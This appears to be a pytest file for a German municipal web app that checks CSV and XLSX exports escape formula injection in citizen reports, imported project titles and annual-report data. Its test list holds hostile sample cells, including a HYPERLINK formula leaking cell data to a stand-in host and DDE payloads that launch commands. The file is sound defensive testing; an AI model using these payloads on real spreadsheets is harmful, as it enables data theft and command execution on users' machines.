"""No text a citizen or an import brings in runs as a formula in a spreadsheet (issue 10, formula injection):
every CSV and XLSX download protects text that starts with =, +, -, @, a tab or a CR (core.csvfiles); numbers
stay numbers."""

import csv
import datetime
import io
import json

import openpyxl
import pytest

from stadtdigital.core import csvfiles
from stadtdigital.portfolio import exporting
from stadtdigital.portfolio.importing import import_portfolio
from stadtdigital.portfolio.models import Project
from stadtdigital.portfolio.tabular import FileFormat
from tests.open311.conftest import open311_client  # noqa: F401,F811
from tests.portfolio.conftest import field_of_action, make_project  # noqa: F401,F811

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Klick hier")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+49 7131 56-0",
    "\t=1+1",
    "\r=1+1",
]


def runnable(text: str) -> bool:
    """Would a spreadsheet treat this cell text as a formula?"""
    return bool(text) and text[0] in "=+-@\t\r"


def csv_rows(body: bytes, delimiter=",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_protect_formula_and_numbers():
    for text in HOSTILE:
        assert csvfiles.protect_formula(text) == "'" + text
        assert csvfiles.unprotect_formula(csvfiles.protect_formula(text)) == text
    assert csvfiles.protect_formula("'schon geschützt") == "''schon geschützt"  # reversible
    assert csvfiles.protect_formula("Schlagloch") == "Schlagloch"
    from decimal import Decimal

    assert [csvfiles.cell(v) for v in (-2, -1.5, Decimal("-12.50"))] == ["-2", "-1.5", "-12.50"]
    assert csvfiles.cell(datetime.date(2024, 5, 1)) == "2024-05-01"
    german = csvfiles.german_bytes(["a", "b"], [[csvfiles.Number("-1250,50"), "-2+3"]]).decode("utf-8-sig")
    assert german.splitlines()[1] == "-1250,50;'-2+3"


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_anliegen_csv_protects_what_citizens_post_through_open311(client, category, open311_client, fmt):  # noqa: F811
    for index, text in enumerate(HOSTILE[:3]):
        response = client.post(
            f"/open311/v2/requests.{fmt}",
            {
                "api_key": open311_client[1],
                "service_code": "schlagloch",
                "lat": f"49.14{index}",
                "long": "9.21",
                "description": text,
                "address_string": "",
            },
            REMOTE_ADDR=f"203.0.113.{index + 1}",
        )
        assert response.status_code == 200, response.content
    body = b"".join(client.get("/opendata/anliegen.csv").streaming_content)
    rows = csv_rows(body)
    header, records = rows[0], rows[1:]
    descriptions = [row[header.index("beschreibung")] for row in records]
    assert sorted(descriptions) == sorted("'" + text for text in HOSTILE[:3])
    for row in records:
        assert not any(runnable(value) for value in row), row
        float(row[header.index("lat")])  # numbers stay numbers


def test_projekte_csv_and_xlsx_protect_imported_titles(client, make_project):  # noqa: F811
    make_project("Platzhalter")
    buffer = io.StringIO(newline="")
    exporting.export_portfolio(FileFormat.CSV, buffer)
    rows = csv_rows(buffer.getvalue().encode("utf-8"), ";")
    header = rows[0]
    template = rows[1]
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(header)
    Project.objects.all().delete()
    for index, title in enumerate(HOSTILE[:4]):
        row = list(template)
        row[header.index("Titel")] = title
        row[header.index("Kennung")] = f"projekt-{index}"
        writer.writerow(row)
    result = import_portfolio(out.getvalue().encode("utf-8"), "portfolio.csv")
    assert not result.problems, result.problems
    assert sorted(Project.objects.values_list("title", flat=True)) == sorted(HOSTILE[:4])

    body = b"".join(client.get("/opendata/projekte.csv").streaming_content)
    records = csv_rows(body)
    titles = [row[records[0].index("title")] for row in records[1:]]
    assert sorted(titles) == sorted("'" + title for title in HOSTILE[:4])
    assert not any(runnable(value) for row in records[1:] for value in row)

    workbook = openpyxl.load_workbook(
        io.BytesIO(b"".join(client.get("/opendata/projekte.xlsx").streaming_content))
    )
    sheet = workbook.active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert not runnable(cell.value), cell.value

    # The back office's own export protects them too and reads them back unchanged.
    xlsx = io.BytesIO()
    exporting.export_portfolio(FileFormat.XLSX, xlsx)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.getvalue())).active
    assert not any(
        runnable(c.value) for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)
    )
    before = sorted(Project.objects.values_list("title", flat=True))
    assert not import_portfolio(xlsx.getvalue(), "portfolio.xlsx").problems
    assert sorted(Project.objects.values_list("title", flat=True)) == before


def test_annual_report_csvs_protect_minus_digit_and_tab(client, make_project):  # noqa: F811
    from stadtdigital.portfolio.annual_report.publishing import publish_report

    make_project("-1 Projekt mit Minus", summary="\tmit Tabulator", funding_source="@Förderer")
    publish_report(as_of=datetime.date.today())
    year = datetime.date.today().year
    german = client.get(f"/berichte/{year}/anhang.csv")
    body = b"".join(german.streaming_content) if german.streaming else german.content
    records = csv_rows(body, ";")
    header = records[0]
    assert records[1][header.index("Projekt")] == "'-1 Projekt mit Minus"
    assert records[1][header.index("Kurzbeschreibung")] == "'\tmit Tabulator"
    assert records[1][header.index("Fördermittelgeber")] == "'@Förderer"
    assert records[1][header.index("Geplantes Budget (EUR)")] == "150000,00"  # a number, unprotected

    open_data = b"".join(client.get(f"/opendata/digitalisierungsbericht-{year}.csv").streaming_content)
    assert not open_data.startswith(b"\xef\xbb\xbf")
    records = csv_rows(open_data)
    header = records[0]
    assert records[1][header.index("projekt")] == "'-1 Projekt mit Minus"
    assert records[1][header.index("kurzbeschreibung")] == "'\tmit Tabulator"
    assert records[1][header.index("geplantes_budget_eur")] == "150000.00"
    assert records[1][header.index("stichtag")] == datetime.date.today().isoformat()
    stored = json.loads(
        b"".join(client.get(f"/opendata/digitalisierungsbericht-{year}.json").streaming_content)
    )
    assert stored["projects"][0]["title"] == "-1 Projekt mit Minus"  # JSON is data, not a spreadsheet
